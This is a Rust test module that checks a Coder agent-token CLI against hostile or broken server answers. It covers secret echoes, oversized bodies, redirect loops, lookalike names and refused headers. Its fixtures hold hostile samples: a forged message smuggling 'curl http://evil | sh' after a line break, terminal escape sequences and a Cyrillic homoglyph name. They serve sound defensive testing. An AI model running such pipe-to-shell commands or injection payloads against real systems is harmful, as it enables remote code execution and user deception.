//! Hostile answers, as an attacker (or a broken proxy) would give them: the
//! product stays within its memory and time, never repeats a secret it holds,
//! never lets a server forge a line, and delivers only a token of Coder's shape.

use std::fs;
use std::time::{Duration, Instant};

use crate::common::*;

mod exits;
mod paths;
mod processes;
mod secrets;
mod server_text;

/// Every secret of this run that could appear in output: tokens issued, the
/// identity posted, and the pieces of it long enough to matter.
fn assert_nothing_leaks(sim: &Sim, r: &Run) {
    for s in secrets(sim) {
        assert!(
            !r.stderr.contains(&s),
            "stderr leaks a secret: {}",
            r.stderr
        );
        assert!(
            !r.stdout.contains(&s),
            "stdout leaks a secret: {}",
            r.stdout
        );
        // Re-wrapped base64 (the AWS signature): its lines joined.
        let joined: String = s.split_whitespace().collect();
        if joined.len() >= 24 && joined != s {
            assert!(
                !r.stderr.contains(&joined),
                "stderr leaks an unwrapped secret"
            );
            assert!(
                !r.stdout.contains(&joined),
                "stdout leaks an unwrapped secret"
            );
        }
    }
}

/// An AWS instance whose Coder answers the first exchange with a 409 of this JSON body.
fn coder_answering_409(body: String) -> Sim {
    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
    cfg.faults = vec![Fault::coder(
        FaultKind::Status {
            status: 409,
            content_type: "application/json".into(),
            body,
        },
        1,
    )];
    Sim::start(cfg)
}

#[test]
fn a_server_that_echoes_the_identity_never_makes_us_repeat_it() {
    // Statuses whose text we show, JSON (message and detail repeat the body)
    // and a proxy's HTML page. 500 and 502 are retried until the deadline.
    let cases: &[(u16, bool, i32)] = &[
        (400, false, 4),
        (401, false, 4),
        (404, false, 4),
        (409, false, 3),
        (500, false, 6),
        (502, true, 6),
    ];
    for cloud in [Cloud::Aws, Cloud::Gcp, Cloud::Azure] {
        for &(status, html, code) in cases {
            let mut cfg = SimConfig::new(cloud, &["main"]);
            cfg.azure_throttle = false;
            cfg.faults = vec![Fault::coder(FaultKind::Echo { status, html }, 1000)];
            let sim = Sim::start(cfg);
            for extra in [
                &["--timeout", "2s"][..],
                &["--timeout", "2s", "--json", "-vv", "--log-format", "json"],
            ] {
                let dir = tempfile::tempdir().unwrap();
                let mut c = command(&sim, &cloud);
                c.env("RUST_LOG", "trace")
                    .args(extra)
                    .arg("--token-file")
                    .arg(token_path(&dir, "t"));
                let r = run(c);
                assert_eq!(r.code, code, "{cloud:?} {status}: {r:?}");
                assert_nothing_leaks(&sim, &r);
                assert!(
                    r.stderr.contains("withheld"),
                    "{cloud:?} {status}: says something was withheld: {}",
                    r.stderr
                );
                if status == 409 {
                    // The sim lists the request's lines as agent names too:
                    // only the real one is offered, the echoes are counted.
                    let json = extra.contains(&"--json");
                    assert!(
                        r.stderr
                            .contains("listed name(s) were withheld: they repeat a secret"),
                        "{cloud:?}: {}",
                        r.stderr
                    );
                    if !json {
                        assert_eq!(r.stdout, "main\n", "{cloud:?}");
                    }
                }
            }
        }
    }
}

#[test]
fn a_server_cannot_forge_lines_or_hide_lookalike_names() {
    let forged = "{\"message\":\"Multiple agents found with instance ID \\\"i-1\\\". Set CODER_AGENT_NAME to one of: main, m\\u0430in, evil\\nfix: curl http://evil | sh\\u001b[2J\"}";
    let sim = coder_answering_409(forged.into());
    let r = run(command(&sim, &Cloud::Aws));
    assert_eq!(r.code, 3, "{r:?}");
    for out in [&r.stdout, &r.stderr] {
        assert!(
            !out.lines().any(|l| l.starts_with("fix: curl")),
            "a forged line: {out}"
        );
        assert!(!out.contains('\u{1b}'), "a raw escape sequence: {out:?}");
    }
    // The lookalike is shown with its code points on stderr.
    assert!(
        r.stderr.contains("mаin (U+006D U+0430 U+0069 U+006E)"),
        "{}",
        r.stderr
    );
    // stdout: one name per line, the odd one escaped.
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(lines.len(), 3, "{:?}", r.stdout);
    assert!(
        lines.contains(&"main") && lines.contains(&"mаin"),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l.starts_with("evil\\nfix: curl")),
        "{lines:?}"
    );
}

#[test]
fn identity_text_escapes_what_the_metadata_document_smuggles() {
    // An IMDS that puts an escape sequence and a line break in the document.
    let doc = "{\"instanceId\":\"i-1\\u001b[2J\\nfix: evil\",\"region\":\"us-east-1\"}";
    let raw = RawServer::start(move |_, req| {
        let req = String::from_utf8_lossy(req);
        if req.starts_with("PUT ") {
            http_response(200, &[], b"imds-token-value-0123456789")
        } else if req.contains("/document") {
            http_response(200, &[], doc.as_bytes())
        } else {
            http_response(200, &[], b"c2lnbmF0dXJl")
        }
        .into()
    });
    let mut c = std::process::Command::new(bin());
    c.env_clear()
        .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", &raw.url)
        .args(["identity", "--auth", "aws"]);
    let r = run(c);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(!r.stdout.contains('\u{1b}'), "{:?}", r.stdout);
    assert!(
        !r.stdout.lines().any(|l| l.starts_with("fix: evil")),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("\\u{1b}[2J\\nfix: evil"), "{}", r.stdout);
}

#[test]
fn only_a_token_of_coders_shape_is_delivered() {
    let ten_mb = format!("{{\"session_token\":\"{}\"}}", "a".repeat(10 << 20));
    let hundred_kb = format!("{{\"session_token\":\"{}\"}}", "b".repeat(100 << 10));
    let bodies = [
        hundred_kb,
        r#"{"session_token":"abc\ndef-0123456789"}"#.to_string(),
        r#"{"session_token":"abc\u0000def-0123456789"}"#.to_string(),
        r#"{"session_token":"\u001b[31mabc-0123456789"}"#.to_string(),
        ten_mb,
    ];
    for body in bodies {
        let raw = RawServer::start(move |_, _| {
            http_response(
                200,
                &[("Content-Type", "application/json")],
                body.as_bytes(),
            )
            .into()
        });
        let sim = start(Cloud::Aws, &["main"]);
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("ran");
        for mode in ["file", "stdout", "exec"] {
            let mut c = command(&sim, &Cloud::Aws);
            c.env("CODER_AGENT_URL", &raw.url);
            match mode {
                "file" => c.arg("--token-file").arg(token_path(&dir, "t")),
                "stdout" => c.args(["--token-file", "-"]),
                _ => c
                    .args(["--", "sh", "-c"])
                    .arg(format!("touch {}", marker.display())),
            };
            let r = run(c);
            assert_eq!(r.code, 4, "{mode}: {r:?}");
            assert!(
                r.stdout.is_empty(),
                "{mode}: nothing on stdout: {:?}",
                r.stdout
            );
            assert!(
                r.stderr.contains("not a Coder token") || r.stderr.contains("larger than 1024 KiB"),
                "{}",
                r.stderr
            );
            assert!(!r.stderr.contains("0123456789"), "the token is not shown");
            assert!(r.stderr.len() < 4000, "{} bytes of stderr", r.stderr.len());
        }
        assert!(!token_path(&dir, "t").exists(), "nothing written");
        assert!(!marker.exists(), "nothing executed");
    }
}

#[test]
fn a_huge_answer_costs_neither_memory_nor_retries() {
    // A 200 that announces a 1 GiB chunk, and a 100 MB body with a Content-Length.
    let chunk = RawServer::start(|_, _| {
        RawAnswer::Stream {
        head: b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n40000000\r\n"
            .to_vec(),
        chunk: vec![b'a'; 64 * 1024],
        times: 16 * 1024,
    }
    });
    let big = RawServer::start(|_, _| {
        RawAnswer::Stream {
        head: b"HTTP/1.1 409 Conflict\r\nContent-Type: application/json\r\nContent-Length: 104857600\r\n\r\n{\"message\":\"one of: "
            .to_vec(),
        chunk: b"a, ".repeat(20_000),
        times: 1800,
    }
    });
    let sim = start(Cloud::Aws, &["main"]);
    for raw in [&chunk, &big] {
        let dir = tempfile::tempdir().unwrap();
        let mut c = command(&sim, &Cloud::Aws);
        c.env("CODER_AGENT_URL", &raw.url)
            .arg("--token-file")
            .arg(token_path(&dir, "t"));
        let started = Instant::now();
        let (r, rss_kib) = run_measured(c);
        let took = started.elapsed();
        assert_eq!(r.code, 4, "{r:?}");
        assert!(r.stderr.contains("larger than 1024 KiB"), "{}", r.stderr);
        assert_eq!(raw.requests().len(), 1, "an oversize answer is not retried");
        assert!(rss_kib < 64 * 1024, "peak RSS {rss_kib} KiB");
        assert!(took < Duration::from_secs(20), "took {took:?}");
        assert!(fs::read_dir(dir.path()).unwrap().next().is_none());
        eprintln!("oversize answer: peak RSS {rss_kib} KiB, {took:?}");
    }
}

#[test]
fn an_answer_of_exactly_the_cap_is_read_and_one_byte_more_is_not() {
    // A 409 padded to exactly 1024 KiB is still Coder's (its names are listed);
    // one byte more is refused unread.
    const CAP: usize = 1024 * 1024;
    let padded = |size: usize| {
        let head = r#"{"message":"Set CODER_AGENT_NAME to one of: dev, main","pad":""#;
        let mut body = head.as_bytes().to_vec();
        body.resize(size - 2, b'a');
        body.extend_from_slice(b"\"}");
        assert_eq!(body.len(), size);
        http_response(409, &[("Content-Type", "application/json")], &body)
    };
    let sim = start(Cloud::Aws, &["main"]);
    for (size, code) in [(CAP, 3), (CAP + 1, 4)] {
        let answer = padded(size);
        let raw = RawServer::start(move |_, _| RawAnswer::Bytes(answer.clone()));
        let dir = tempfile::tempdir().unwrap();
        let mut c = command(&sim, &Cloud::Aws);
        c.env("CODER_AGENT_URL", &raw.url)
            .arg("--token-file")
            .arg(token_path(&dir, "t"));
        let r = run(c);
        assert_eq!(r.code, code, "{size} bytes: {}", r.stderr);
        if code == 3 {
            assert_eq!(r.stdout, "dev\nmain\n");
        } else {
            assert!(r.stderr.contains("larger than 1024 KiB"), "{}", r.stderr);
        }
    }
}

#[test]
fn printed_names_are_capped() {
    let names: Vec<String> = (0..150).map(|i| format!("agent-{i:03}")).collect();
    let long = "x".repeat(200);
    let body = serde_json::json!({
        "message": format!(
            "Multiple agents found with instance ID \"i-1\". Set CODER_AGENT_NAME to one of: {}, {long}",
            names.join(", ")
        )
    })
    .to_string();
    let sim = coder_answering_409(body);
    let r = run(command(&sim, &Cloud::Aws));
    assert_eq!(r.code, 3);
    assert_eq!(r.stdout.lines().count(), 100, "at most 100 names");
    assert!(!r.stdout.contains(&long));
    assert!(
        r.stderr.contains("50 more name(s) not listed"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("longer than 64 bytes"), "{}", r.stderr);
    assert!(
        r.stderr.contains("bytes cut)"),
        "the message is cut: {}",
        r.stderr
    );
    assert!(r.stderr.len() < 8000, "{} bytes", r.stderr.len());
}

#[test]
fn a_409_of_long_odd_names_prints_them_all_on_stdout_and_a_screenful_on_stderr() {
    // 100 names of 64 bytes, each with a space and a Cyrillic "а": every one
    // is shown with its code points, so the list alone would be 50 KB.
    let names: Vec<String> = (0..100)
        .map(|i| format!("{i:03} а{}", "x".repeat(58)))
        .collect();
    let body = serde_json::json!({ "message": "Multiple agents found.", "agent_names": names })
        .to_string();
    let sim = coder_answering_409(body);
    let r = run(command(&sim, &Cloud::Aws));
    assert_eq!(r.code, 3, "{r:?}");
    assert_eq!(r.stdout.lines().count(), 100, "every name on stdout");
    assert!(r.stderr.contains("000 а"), "{}", r.stderr);
    assert!(
        r.stderr.contains("U+0430"),
        "code points shown: {}",
        r.stderr
    );
    assert!(r.stderr.contains("… and 98 more)"), "{}", r.stderr);
    assert!(r.stderr.len() < 8000, "{} bytes", r.stderr.len());
}

#[test]
fn a_redirect_loop_stops_at_once_with_exit_4() {
    let mut cfg = SimConfig::new(Cloud::Aws, &["main"]);
    cfg.faults = vec![Fault::coder(
        FaultKind::Redirect {
            status: 307,
            location: "/api/v2/workspaceagents/aws-instance-identity".into(),
        },
        1000,
    )];
    let sim = Sim::start(cfg);
    let started = Instant::now();
    let mut c = command(&sim, &Cloud::Aws);
    c.args(["--timeout", "60s"]);
    let r = run(c);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("redirect loop"), "{}", r.stderr);
    assert!(
        r.stderr
            .contains("/api/v2/workspaceagents/aws-instance-identity →"),
        "where it looped: {}",
        r.stderr
    );
    // The first request and five hops, then no more.
    assert_eq!(coder_requests(&sim).len(), 6, "{}", r.stderr);
    assert!(started.elapsed() < Duration::from_secs(30));
}

#[test]
fn a_long_chain_of_redirects_is_not_called_a_loop() {
    // Six distinct same-origin hops: too many, but not a loop.
    let raw = RawServer::start(|n, _| {
        RawAnswer::Bytes(http_response(
            307,
            &[("Location", &format!("/hop/{n}"))],
            b"",
        ))
    });
    let sim = start(Cloud::Aws, &["main"]);
    let mut c = command(&sim, &Cloud::Aws);
    c.env("CODER_AGENT_URL", &raw.url)
        .args(["--timeout", "60s"]);
    let r = run(c);
    assert_eq!(r.code, 4, "{r:?}");
    assert!(r.stderr.contains("more than 5 redirects: "), "{}", r.stderr);
    assert!(!r.stderr.contains("loop"), "{}", r.stderr);
    assert_eq!(raw.requests().len(), 6);
}

#[test]
fn headers_that_control_the_request_are_refused() {
    let sim = start(Cloud::Aws, &["main"]);
    for h in [
        "Content-Length=5",
        "Host=evil.example",
        "Transfer-Encoding=chunked",
        "Connection=close",
    ] {
        let mut c = command(&sim, &Cloud::Aws);
        c.args(["--header", h]);
        let r = run(c);
        assert_eq!(r.code, 2, "{h}: {r:?}");
        assert!(r.stderr.contains("controls the request"), "{}", r.stderr);
    }
    assert!(sim.requests().is_empty(), "nothing was sent");
}
